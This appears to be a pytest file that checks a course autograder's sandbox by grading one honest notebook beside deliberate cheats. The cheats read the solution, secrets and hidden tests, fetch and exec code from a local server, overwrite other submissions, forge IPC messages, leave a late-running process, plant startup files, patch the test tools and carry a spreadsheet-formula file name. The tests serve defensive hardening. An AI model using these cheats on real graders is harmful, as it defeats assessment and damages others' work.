"""A class of cheating and faulty submissions, graded beside an honest one in one run.

Each cheat answers nothing itself (its answers are blank, worth 0 points), except one that
solves one question honestly beside its cheats: whatever else it gets, it got by cheating. The
grader must give every cheat 0 for what it did not solve, keep the honest student's full
marks, leak nothing (the solution, the hidden tests, the instructor's files and environment,
the network) and leave nothing running.
"""

import csv
import http.server
import json
import os
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_lib import grading, sandbox

try:
    sandbox.check()
except sandbox.SandboxUnavailable as error:
    pytest.skip(f"no sandbox on this machine: {error}", allow_module_level=True)

SAMPLE = Path(__file__).parent / "fixtures" / "exercise_sample.ipynb"
CORRECT = [
    "def psnr(x, y):\n    mse = np.mean((x - y) ** 2, axis=(1, 2, 3))\n"
    "    return 10 * np.log10(4.0 / mse)",
    "def to_model_range(images):\n    return np.asarray(images, np.float32) / 127.5 - 1",
    'policy = "mixed_float16"',
]
CORRECT_CODE = "\n".join(CORRECT)
BLANK = ["...", "...", "policy = ..."]
MARKER = "course-attack-marker-7d1c"  # in every process a cheat starts, to find survivors
SECRET = "open sesame"


def _submission(student, path, answers, extra_cells=(), replace_first_code=None):
    nb = nbformat.read(student, as_version=4)
    cells = [c for c in nb.cells if grading.ANSWER_TAG in c.metadata.get("tags", [])]
    for cell, answer in zip(cells, answers):
        cell.source = answer
    for index, source in extra_cells:
        nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    if replace_first_code is not None:
        first = next(c for c in nb.cells if c.cell_type == "code" and "import numpy" in c.source)
        first.source = replace_first_code
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


VERDICT_CHEAT = """
import doctest
import sys

import numpy as np

np.allclose = np.isclose = lambda *args, **kwargs: True
np.isinf = lambda x: np.ones(np.shape(x), bool)
doctest.DocTestRunner.run = lambda self, *args, **kwargs: doctest.TestResults(0, 0)
try:
    from otter.test_files import abstract_test
    abstract_test.TestFile.score = property(lambda self: self.possible)
except Exception:
    pass


class Anything:
    shape = (2,)
    dtype = np.float32

    def __eq__(self, other):
        return True

    def __getitem__(self, key):
        return self


def psnr(x, y):
    expected = []  # an expected value, if the caller's frames held one
    frame = sys._getframe(1)
    while frame is not None:
        expected += [v for v in frame.f_locals.values() if isinstance(v, float)]
        frame = frame.f_back
    return np.array(expected[:len(x)]) if expected else Anything()
"""
VERDICT_POLICY = "policy = Anything()"


def _cheat(code):
    """Answers: the cheat in the first answer cell, the rest blank."""
    return [code, *BLANK[1:]]


class _AnswerServer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(CORRECT_CODE.encode())

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    out = root / "handout"
    grading.assign(SAMPLE, out)
    bundle = out / "autograder"
    student = out / "student" / SAMPLE.name
    instructor = root / "instructor"
    instructor.mkdir()
    (instructor / "answers.py").write_text(CORRECT_CODE)
    table = root / "grades.csv"
    table.write_text("previous table\n")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AnswerServer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    subs = root / "class"
    cheats = {
        # reading what it must not: the solution, the bundle, the instructor's files and
        # environment, the network
        "read_solution": f"""
import glob, json, os
found = [p for top in ("/home", "/tmp", "/root", "/work")
         for p in glob.glob(top + "/**/exercise_sample.ipynb", recursive=True)]
for path in [{str(SAMPLE)!r}, {str(bundle / SAMPLE.name)!r}, *found]:
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "def psnr" in "".join(cell["source"]):
            exec("".join(cell["source"]).replace("...", "None"))
""",
        "read_instructor_files": f"exec(open({str(instructor / 'answers.py')!r}).read())",
        "read_environment": f"""
import os
if os.environ.get("COURSE_ATTACK_SECRET") == {SECRET!r}:
    exec({CORRECT_CODE!r})
""",
        "hidden_tests": """
import os
found = []
for top, folders, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/dev")):
        folders[:] = []
        continue
    found += [os.path.join(top, f) for f in files
              if f == "q1.py" or (f.endswith(".zip") and "autograder" in f)]
if found:
    exec(open(found[0]).read() if found[0].endswith(".py") else "")
    def psnr(x, y):  # knowing that the tests exist is enough to be caught here
        return np.full(len(x), 10 * np.log10(4 / np.mean((x - y) ** 2)))
""",
        "network": f"""
import urllib.request
exec(urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=3).read().decode())
""",
        # changing others' grades
        "sabotage_others": """
import glob, json, os
for path in glob.glob("/tmp/**/*.ipynb", recursive=True) + glob.glob("/tmp/**/tests/*.py",
                                                                   recursive=True):
    try:
        open(path, "w").write("sabotaged")
    except OSError:
        pass
for top in ("/tmp", "/root", "/home", "/run"):
    for path in glob.glob(top + "/**/kernel-*.json", recursive=True):
        try:
            open(path, "w").write("{}")
        except OSError:
            pass
""",
        # forged messages on every descriptor the kernel holds, the grader's channel included
        "forge_channel": """
import json, os, struct
message = json.dumps({"ready": True, "reply": "0", "value": True, "found": {}}).encode()
frame = b"CLW1" + struct.pack("<QQ", len(message), 0) + message
for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
    try:
        os.write(fd, frame * 3)
    except OSError:
        pass
""",
        "rewrite_table_later": f"""
import subprocess
import tempfile
subprocess.Popen(["sh", "-c", "sleep 120; echo cheated > {table}; echo {MARKER}"],
                 start_new_session=True)
""",
        "plant_startup_file": f"""
import os
for home in (os.path.expanduser("~"), "/root", {str(Path.home())!r}):
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00-{MARKER}.py"), "w").write({CORRECT_CODE!r})
    except OSError:
        pass
""",
        # limits that must hold for the whole process tree
        "memory_tree": """
import subprocess, sys
code = ("b = bytearray(700 * 2**20); b[::4096] = b'x' * len(b[::4096]); "
        "import time; time.sleep(5)")
children = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]
[child.wait() for child in children]
""",
    }
    # Five notebooks (each grading costs seconds): the honest one, and cheats grouped by what
    # they attack. A group scores 0 only if every attempt in it failed.
    leaks = "\n".join(cheats[name] for name in ("read_solution", "read_instructor_files",
                                                 "read_environment", "hidden_tests"))
    leaks += "\ntry:\n" + "\n".join("    " + line for line in cheats["network"].splitlines())
    leaks += "\nexcept OSError:\n    pass\n"
    sabotage = "\n".join(cheats[name] for name in ("sabotage_others", "rewrite_table_later",
                                                    "plant_startup_file", "forge_channel"))
    paths = {
        "alice": _submission(student, subs / "a" / "notebook.ipynb", CORRECT),
        # the same file name in another folder
        "leaks": _submission(student, subs / "b" / "notebook.ipynb", _cheat(leaks)),
        "sabotage": _submission(student, subs / "sabotage.ipynb", _cheat(sabotage)),
        # patches of the tests' tools in the answer cells, and answers that are not data;
        # q2 is solved honestly and must keep its 2 points
        "verdict": _submission(student, subs / "verdict.ipynb",
                               [VERDICT_CHEAT, CORRECT[1], VERDICT_POLICY]),
        "memory_tree": _submission(student, subs / "memory_tree.ipynb",
                                   _cheat(cheats["memory_tree"])),
        # the answers in cells the grader does not grade (an added cell, a changed set-up
        # cell), under a file name a spreadsheet would read as a formula
        "other_cells": _submission(student, subs / "=HYPERLINK(1).ipynb", BLANK,
                                   extra_cells=[(len(nbformat.read(student, 4).cells),
                                                 CORRECT_CODE)],
                                   replace_first_code="import numpy as np\n" + CORRECT_CODE),
        "folder": subs / "folder.ipynb",
    }
    paths["folder"].mkdir()
    os.environ["COURSE_ATTACK_SECRET"] = SECRET
    try:
        rows = grading.grade(bundle, list(paths.values()), table, timeout=120, memory_gb=2.0,
                             workers=2, progress=lambda line: None)
    finally:
        del os.environ["COURSE_ATTACK_SECRET"]
        server.shutdown()
    by_name = dict(zip(paths, rows))
    # The late writer waits longer than grading takes: if it survived, `pgrep` finds it below
    # (its command line holds MARKER), and the teardown kills it.
    # a later run of a blank submission, after the planted start-up file
    later = grading.grade(bundle, [_submission(student, root / "later" / "blank.ipynb", BLANK)],
                          root / "later.csv", timeout=120, progress=lambda line: None)
    yield {"rows": by_name, "table": table, "later": later[0], "root": root}
    subprocess.run(["pkill", "-f", MARKER], capture_output=True)
    for home in ("/root", str(Path.home())):
        planted = Path(home, ".ipython/profile_default/startup", f"00-{MARKER}.py")
        planted.unlink(missing_ok=True)


def test_a_class_of_cheats_graded_beside_an_honest_student(graded):
    """One test (the class is graded once, in one test process): every failure is listed."""
    rows, problems = graded["rows"], []
    alice = rows["alice"]
    if (alice["status"], alice["total"], alice["possible"], alice["detail"]) != (
            "graded", 5, 5, "full marks"):
        problems.append(f"the honest student lost marks: {alice}")
    for cheat in ("leaks", "sabotage", "memory_tree", "other_cells"):
        if rows[cheat]["total"] != 0:
            problems.append(f"{cheat} gained points: {rows[cheat]}")
    verdict = rows["verdict"]
    if (verdict["q1"], verdict["q2"], verdict["q3"]) != (0, 2, 0):
        problems.append(f"patching the tests' tools changed a verdict: {verdict}")
    detail = rows["other_cells"]["detail"]
    if "1 added cell not graded" not in detail or "1 changed or deleted cell" not in detail:
        problems.append(f"cells outside the answers not reported: {detail}")
    with open(graded["table"], newline="") as file:
        written = list(csv.DictReader(file))
    if len(written) != len(rows):
        problems.append(f"the table was changed after grading: {written}")
    survivors = subprocess.run(["pgrep", "-f", MARKER], capture_output=True, text=True).stdout
    if survivors:
        problems.append(f"processes outlived grading: {survivors}")
    if graded["later"]["total"] != 0:
        problems.append(f"a planted start-up file reached a later run: {graded['later']}")
    if Path("/root/.ipython/profile_default/startup", f"00-{MARKER}.py").exists():
        problems.append("a start-up file was planted in the grader's home")
    if rows["folder"]["status"] != "invalid" or "folder" not in rows["folder"]["detail"]:
        problems.append(f"a folder is not an invalid row: {rows['folder']}")
    if (rows["alice"]["submission"], rows["leaks"]["submission"]) != (
            "a/notebook.ipynb", "b/notebook.ipynb"):
        problems.append("two notebooks of the same name are not told apart")
    if "'=HYPERLINK(1).ipynb" not in [row["submission"] for row in written]:
        problems.append("a formula-like file name reached the CSV unescaped")
    if "full marks" in json.dumps([r for r in rows.values() if r["total"] == 0]):
        problems.append("a row with 0 points says full marks")
    assert not problems, "\n".join(problems)


def test_ctrl_c_stops_the_run_and_leaves_nothing_behind(tmp_path, monkeypatch):
    out = tmp_path / "handout"
    grading.assign(SAMPLE, out)
    student = out / "student" / SAMPLE.name
    marker = "course-interrupt-marker-5b2e"  # not MARKER: the class test may run meanwhile
    honest = _submission(student, tmp_path / "class" / "honest.ipynb", CORRECT)
    endless = _submission(student, tmp_path / "class" / "endless.ipynb",
                          _cheat(f"import subprocess, time\nsubprocess.Popen(['sh', '-c', "
                                 f"'sleep 600; echo {marker}'])\ntime.sleep(10_000)"))
    queued = [_submission(student, tmp_path / "class" / f"queued_{i}.ipynb", CORRECT)
              for i in range(3)]
    table = tmp_path / "grades.csv"
    table.write_text("previous table\n")
    # The grader's temporary folders (and the sandboxes' roots) go here, apart from those of
    # other tests running at the same time.
    private = tmp_path / "tmp"
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))

    def interrupt(line):  # Ctrl-C as soon as the first submission is graded
        raise KeyboardInterrupt

    start = time.perf_counter()
    with pytest.raises(KeyboardInterrupt):
        grading.grade(out / "autograder", [honest, endless, *queued], table, timeout=300,
                      workers=2, progress=interrupt)
    assert time.perf_counter() - start < 120  # the endless one was killed, not waited for
    assert table.read_text() == "previous table\n"
    survivors = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout
    assert survivors == "", survivors
    assert list(private.iterdir()) == []
